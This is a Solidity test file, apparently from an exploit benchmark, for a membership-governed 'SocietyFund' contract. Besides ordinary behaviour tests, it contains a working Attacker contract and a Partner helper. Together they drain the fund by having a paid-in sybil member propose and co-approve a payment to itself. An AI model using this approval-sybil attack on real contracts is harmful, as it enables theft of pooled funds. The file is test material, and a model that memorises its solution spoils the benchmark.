// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./SocietyFund.sol";

// assay-canary-d00086c5-96ca-47c3-929b-2b3b21172563

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address payable private constant PRINTER = payable(address(0x9814));
    uint256 private constant START = 1_790_000_000;

    SocietyFund private fund;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 100 ether);
        fund = new SocietyFund(ANA, BEN);
        (bool done,) = address(fund).call{value: 10 ether}("");
        require(done, "donated");
        // The board are members too.
        vm.deal(ANA, 1 ether);
        vm.deal(BEN, 1 ether);
        vm.prank(ANA);
        fund.join{value: 0.1 ether}();
        vm.prank(BEN);
        fund.join{value: 0.1 ether}();
        mallory = new Attacker(fund);
        vm.deal(address(mallory), 1 ether);
    }

    function proposal() private returns (uint256 id) {
        vm.prank(ANA);
        id = fund.propose(PRINTER, 2 ether, "programmes");
    }

    function test_Regular() public {
        uint256 id = proposal();
        vm.prank(ANA);
        fund.approve(id);
        vm.prank(BEN);
        fund.approve(id);
        fund.pay(id);
        require(PRINTER.balance == 2 ether && fund.payments(id).paid && address(fund).balance == 8.2 ether, "paid");
        require(fund.hasApproved(id, ANA) && fund.payments(id).approvals == 2, "approved");
        vm.prank(ANA);
        fund.join{value: 0.1 ether}();
        require(fund.memberUntil(ANA) == START + 730 days, "another year");
        fund.appoint(address(this));
        require(fund.board().length == 3, "three");
        fund.dismiss(BEN);
        vm.warp(START + 400 days);
        vm.prank(BEN);
        fund.join{value: 0.1 ether}();
        require(fund.memberUntil(BEN) == START + 765 days, "from now on");
        fund.setChair(ANA);
        require(fund.chair() == ANA, "chair");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotChair.selector, ANA));
        fund.setChair(ANA);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotChair.selector, ANA));
        fund.appoint(PRINTER);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotChair.selector, ANA));
        fund.dismiss(BEN);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotMember.selector, address(this)));
        fund.propose(PRINTER, 1, "");
    }

    function test_RefusesApprovals() public {
        uint256 id = proposal();
        vm.warp(START + 100 days);
        vm.startPrank(ANA);
        fund.approve(id);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.AlreadyApproved.selector, id, ANA));
        fund.approve(id);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NoSuchPayment.selector, id + 1));
        fund.approve(id + 1);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotApproved.selector, id, 1, 2));
        fund.pay(id);
        vm.stopPrank();
        vm.prank(BEN);
        fund.approve(id);
        fund.pay(id);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.AlreadyPaid.selector, id));
        fund.pay(id);
        vm.warp(START + 365 days);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotMember.selector, ANA));
        fund.propose(PRINTER, 1, "");
    }

    // Neither dues nor a seat.
    function test_RefusesOutsiders() public {
        uint256 id = proposal();
        vm.prank(PRINTER);
        (bool done,) = address(fund).call(abi.encodeCall(fund.approve, (id)));
        require(!done, "a stranger approves");
    }

    function test_RefusesMistakes() public {
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.WrongDues.selector, 1, 0.1 ether));
        fund.join{value: 1}();
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.ZeroAddress.selector));
        fund.setChair(address(0));
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.ZeroAddress.selector));
        fund.appoint(address(0));
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.AlreadyOnBoard.selector, ANA));
        fund.appoint(ANA);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.NotOnBoard.selector, address(this)));
        fund.dismiss(address(this));
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.BoardTooSmall.selector, 1));
        fund.dismiss(ANA);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(SocietyFund.ZeroAddress.selector));
        fund.propose(payable(address(0)), 1, "");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 9 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Partner {
    function run(SocietyFund fund, uint256 id) external payable {
        fund.join{value: msg.value}();
        fund.approve(id);
    }
}

contract Attacker {
    SocietyFund private fund;
    Partner private partner;

    constructor(SocietyFund fund_) {
        fund = fund_;
        partner = new Partner();
    }

    receive() external payable {}

    function run() external {
        fund.join{value: 0.1 ether}();
        uint256 id = fund.propose(payable(address(this)), 10.4 ether, "expenses");
        fund.approve(id);
        partner.run{value: 0.1 ether}(fund, id);
        fund.pay(id);
    }
}
